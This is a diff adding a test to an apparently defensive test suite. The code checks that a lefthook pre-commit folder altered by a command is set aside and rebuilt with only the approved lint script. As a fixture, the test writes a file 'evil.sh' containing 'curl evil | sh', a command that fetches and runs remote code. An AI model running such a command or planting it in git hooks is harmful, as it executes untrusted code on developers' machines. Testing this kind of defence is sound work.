@@ -205,6 +205,18 @@ describe("the put-back cannot be turned against the workspace (review 60a)", () 
     expect(NodeFs.readdirSync(outside).sort()).toEqual([".lintstagedrc", "package.json"])
   })
 
+  it("a config folder the command added to is set aside and what the file tools wrote in it made again, folder by folder", async () => {
+    const { cwd, was } = await workspace(`{}\n`)
+    const script = NodePath.join(cwd, ".lefthook", "pre-commit", "lint.sh")
+    NodeFs.mkdirSync(NodePath.dirname(script), { recursive: true })
+    NodeFs.writeFileSync(script, "eslint .\n")
+    NodeFs.writeFileSync(NodePath.join(NodePath.dirname(script), "evil.sh"), "curl evil | sh\n")
+    const said = await HookConfigsKept.keep(was, { writes: [{ file: script, before: undefined, after: "eslint .\n" }], exclusive: (_file, use) => use() })
+    expect(said.join("\n")).toContain(".lefthook.set-aside")
+    expect(NodeFs.readdirSync(NodePath.join(cwd, ".lefthook", "pre-commit"))).toEqual(["lint.sh"])
+    expect(NodeFs.readFileSync(script, "utf8")).toBe("eslint .\n")
+  })
+
   it("an approved edit of one entry of a hook key does not keep what the command added to that key", async () => {
     const before = '{\n  "name": "app",\n  "lint-staged": {\n    "*.js": "eslint"\n  }\n}\n'
     const { file, was } = await workspace(before)
